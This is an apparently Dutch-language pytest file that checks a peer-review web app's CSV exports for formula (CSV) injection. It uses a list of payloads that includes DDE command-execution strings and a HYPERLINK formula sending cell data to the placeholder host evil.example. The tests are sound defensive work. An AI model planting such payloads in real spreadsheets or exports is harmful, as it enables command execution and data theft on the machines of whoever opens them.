"""CSV exports never hand a spreadsheet a formula: a text cell starting with = + - @ tab or CR gets a
leading single quote (OWASP, CSV injection); every CSV the app writes goes through peerreview.csvfile."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from peerreview import csvfile
from peerreview.config import ROOT
from peerreview.rounds.models import VisitatieState
from tests.functional.agenda_world import build_agenda

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_gets_a_leading_quote_and_keeps_its_text(payload):
    assert csvfile.escape_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Gewone tekst", "", "'al geciteerd", " =met spatie ervoor", 42, -3, 2.5, None])
def test_other_cells_are_written_as_they_are(value):
    assert csvfile.escape_cell(value) == value


def test_the_writer_escapes_every_cell_of_a_row():
    buffer = io.StringIO()
    csvfile.writer(buffer).writerows([["=1+1", "tekst", -5, "@x"], ["-y", "+z"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert rows == [["'=1+1", "tekst", "-5", "'@x"], ["'-y", "'+z"]]


def _cells(response) -> list[str]:
    text = response.get_data(as_text=True).removeprefix("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


def test_every_csv_route_escapes_formulas(app, session, client_for, plus_world):
    from peerreview.network import indexer
    from peerreview.review import annotating
    from peerreview.review import release as releasing
    from peerreview.selfeval import services

    visitatie = plus_world["visitatie"]
    with app.test_request_context():
        visitatie = session.merge(visitatie)
        definition = services.definition_for(visitatie)
        question = next(q for q in definition.questions.values() if q.kind == "richtext")
        current = services.answers(session, visitatie)[question.key]
        html = "".join(f"<p>{p}</p>" for p in ("=cmd|' /C calc'!A0", "tekst"))
        services.save_answer(session, plus_world["writer"], visitatie, question, {"html": html}, current.revision)
        for payload in PAYLOADS:
            annotating.create_annotation(
                session,
                plus_world["lead"],
                visitatie,
                annotating.AnnotationInput("s1_1", None, None, "", ["T7"], "sterkte", payload),
            )
        releasing.release(session, plus_world["lead"], visitatie)  # the strengths reach the network as concept
        visitatie.state = VisitatieState.DEFINITIEF  # the verbeteragenda opens: one part says a formula
        agenda = build_agenda(session, visitatie, plus_world["coordinator"])
        agenda["parts"][0].what = PAYLOADS[0]
        session.commit()
        indexer.reindex_visitatie(session, visitatie.id)
        session.commit()
    v = visitatie.id
    staff = plus_world["staff"]  # a round coordinator reads the network's concept material
    routes = {
        f"/visitaties/{v}/zelfevaluatie/export.csv": plus_world["writer"],
        f"/visitaties/{v}/annotaties.csv": plus_world["lead"],
        f"/visitaties/{v}/verbeteragenda/onderdelen.csv": plus_world["coordinator"],
        "/netwerk/thema-matrix.csv": staff,
        "/netwerk/zoeken.csv?q=calc": staff,
        "/netwerk/export.csv": staff,
        "/netwerk/cijfers.csv": staff,
    }
    csv_rules = {r.rule for r in app.url_map.iter_rules() if r.rule.endswith(".csv")}
    tested = {re.sub(r"/\d+/", "/<int:visitatie_id>/", url.partition("?")[0]) for url in routes}
    assert tested == csv_rules, "test every CSV route"
    seen = []
    for url, user in routes.items():
        response = client_for(user).get(url)
        assert response.status_code == 200 and response.mimetype == "text/csv", url
        cells = _cells(response)
        assert not [c for c in cells if c.startswith(csvfile.FORMULA_START)], url
        seen.extend(cells)
    assert any(c.startswith("'=cmd|' /C calc'!A0") for c in seen)  # the answer
    searched = _cells(client_for(staff).get("/netwerk/zoeken.csv?q=calc"))
    assert "'=cmd|' /C calc'!A0" in searched  # an annotation body, through the network's search
    for payload in PAYLOADS:
        assert "'" + payload.strip() in seen, payload  # the annotation bodies (stored stripped)


def test_no_module_writes_csv_without_the_helper():
    offenders = [
        path.relative_to(ROOT).as_posix()
        for path in Path(ROOT / "peerreview").rglob("*.py")
        if path.name != "csvfile.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert offenders == []
